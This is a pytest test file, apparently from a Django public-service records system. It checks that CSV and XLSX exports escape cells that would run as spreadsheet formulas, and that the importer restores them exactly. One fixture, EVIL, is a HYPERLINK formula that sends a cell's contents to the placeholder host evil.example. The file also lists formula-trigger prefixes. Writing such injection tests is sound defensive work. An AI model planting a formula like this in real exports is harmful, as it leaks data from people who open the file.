"""Issue #8 finding 14: no cell of an export runs as a formula when opened in a spreadsheet, and our own
importer reads the escaped cells back unchanged."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from motcua.catalogue.importers import run_import
from motcua.catalogue.models import ProcedureVersion
from motcua.core.spreadsheet import cell_escape, cell_unescape
from motcua.documents.slips import register_xlsx
from motcua.dossiers.services import dossier_approve, dossier_forward
from tests.conftest import Cast, make_procedure
from tests.dossiers.factories import applicant, at, received

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
TRICKY = [EVIL, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "'=1", "'", "''x", "'abc", "plain", "", "a=b"]


@pytest.mark.parametrize("text", TRICKY)
def test_an_escaped_cell_reads_back_exactly(text: str) -> None:
    escaped = cell_escape(text)
    assert not escaped.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert cell_unescape(escaped) == text


def test_numbers_and_empty_cells_are_left_alone() -> None:
    assert cell_escape(-5) == -5
    assert cell_escape(None) is None
    assert cell_unescape("'abc") == "'abc"  # a hand-typed apostrophe that we did not add stays


def _dangerous_procedure() -> ProcedureVersion:
    # A requirement text longer than an XLSX cell whose continuation starts with "=" as well.
    return make_procedure(name=EVIL, requirements="a" * 32_000 + "=1+1", result_name="-1+2", steps="@SUM(1)")


def _export(fmt: str, path: Path) -> None:
    call_command("export-procedures", "--format", fmt, "--output", str(path), stderr=io.StringIO())


@pytest.mark.django_db
def test_the_csv_catalogue_export_escapes_formulas_and_imports_back_unchanged(tmp_path: Path) -> None:
    _dangerous_procedure()
    path = tmp_path / "export.csv"
    _export("csv", path)
    rows = list(csv.DictReader(path.open(encoding="utf-8-sig", newline="")))
    assert rows[0]["name"] == "'" + EVIL
    assert rows[0]["result_name"] == "'-1+2"
    for row in rows:
        assert not any(str(v).startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())
    assert run_import(path).unchanged == ["1.001193"]


@pytest.mark.django_db
def test_the_xlsx_catalogue_export_has_no_formula_and_imports_back_unchanged(tmp_path: Path) -> None:
    _dangerous_procedure()
    path = tmp_path / "export.xlsx"
    _export("xlsx", path)
    sheet = load_workbook(path).worksheets[0]
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    header = [c.value for c in sheet[1]]
    values = dict(zip(header, [c.value for c in sheet[2]], strict=False))
    assert values["name"] == "'" + EVIL
    assert values["requirements.2"] == "'=1+1"
    assert run_import(path).unchanged == ["1.001193"]
    version = ProcedureVersion.objects.get(procedure__code="1.001193")
    assert version.name == EVIL and version.requirements.endswith("a=1+1")


def test_the_register_xlsx_escapes_an_applicants_formula(cast: Cast) -> None:
    dossier = received(cast, applicant=applicant(name=EVIL, address="@evil"))
    sheet = load_workbook(io.BytesIO(register_xlsx([dossier]))).active
    assert sheet is not None
    row = next(sheet.iter_rows(min_row=2))
    assert all(cell.data_type != "f" for cell in row)
    assert row[3].value == "'" + EVIL
    assert str(row[4].value).startswith("'@evil")


def test_the_approvals_report_escapes_formula_cells(cast: Cast) -> None:
    cast.head.username = "=2+3"
    cast.head.save()
    dossier = dossier_forward(actor=cast.officer, dossier=received(cast), at=at("2027-03-02 08:00"))
    dossier_approve(actor=cast.head, dossier=dossier, at=at("2027-03-03 08:00"))
    out = io.StringIO()
    call_command("approvals-report", "--from", "2027-03-01", "--to", "2027-03-31", stdout=out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[1][4] == "'=2+3"
